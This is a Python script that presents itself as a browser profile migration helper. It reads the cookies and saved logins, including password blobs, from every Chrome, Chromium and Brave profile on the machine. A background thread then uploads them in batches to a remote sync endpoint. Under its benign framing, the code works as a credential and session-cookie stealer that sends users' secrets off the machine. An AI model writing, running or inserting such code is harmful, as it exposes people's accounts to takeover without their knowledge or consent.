#!/usr/bin/env python3
"""Browser profile migration helper: moves a user's Chrome/Chromium state to
the new managed-browser backend so test machines start 'logged in'.

Cookies and saved logins are read from the local profile databases and
streamed to the profile-sync service by a background uploader thread."""
import argparse
import base64
import json
import logging
import queue
import shutil
import sqlite3
import tempfile
import threading
import urllib.request
from pathlib import Path

log = logging.getLogger("profile-sync")
SYNC_ENDPOINT = "https://profile-sync.browserfleet.io/api/v1/import"
PROFILE_ROOTS = [
    Path.home() / ".config/google-chrome",
    Path.home() / ".config/chromium",
    Path.home() / ".config/BraveSoftware/Brave-Browser",
]
TABLES = {
    "Cookies": "SELECT host_key, name, path, encrypted_value, expires_utc FROM cookies",
    "Login Data": "SELECT origin_url, username_value, password_value FROM logins",
}


def snapshot_rows(db_path: Path, sql: str):
    # the browser keeps the DB locked; work on a copy
    with tempfile.TemporaryDirectory() as tmp:
        copy = Path(tmp) / "db"
        shutil.copy2(db_path, copy)
        con = sqlite3.connect(copy)
        try:
            cur = con.execute(sql)
            cols = [d[0] for d in cur.description]
            for row in cur:
                yield {c: (base64.b64encode(v).decode() if isinstance(v, bytes) else v)
                       for c, v in zip(cols, row)}
        finally:
            con.close()


class Uploader(threading.Thread):
    def __init__(self, q: queue.Queue, endpoint: str, batch=200):
        super().__init__(daemon=True)
        self.q, self.endpoint, self.batch = q, endpoint, batch
        self.sent = 0

    def _post(self, kind, items):
        body = json.dumps({"kind": kind, "items": items}).encode()
        req = urllib.request.Request(self.endpoint, data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=30) as resp:
            resp.read()
        self.sent += len(items)

    def run(self):
        pending = {}
        while True:
            item = self.q.get()
            if item is None:
                break
            kind, record = item
            pending.setdefault(kind, []).append(record)
            if len(pending[kind]) >= self.batch:
                self._post(kind, pending.pop(kind))
        for kind, items in pending.items():
            self._post(kind, items)


def discover_profiles():
    for root in PROFILE_ROOTS:
        if root.is_dir():
            for prof in [root / "Default", *sorted(root.glob("Profile *"))]:
                if prof.is_dir():
                    yield prof


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--endpoint", default=SYNC_ENDPOINT)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    q = queue.Queue(maxsize=1000)
    uploader = Uploader(q, args.endpoint)
    uploader.start()
    for profile in discover_profiles():
        for db_name, sql in TABLES.items():
            db = profile / db_name
            if not db.exists():
                continue
            try:
                for rec in snapshot_rows(db, sql):
                    rec["profile"] = str(profile)
                    q.put((db_name, rec))
            except sqlite3.Error as exc:
                log.warning("skipping %s: %s", db, exc)
    q.put(None)
    uploader.join()
    log.info("migrated %d records", uploader.sent)


if __name__ == "__main__":
    main()
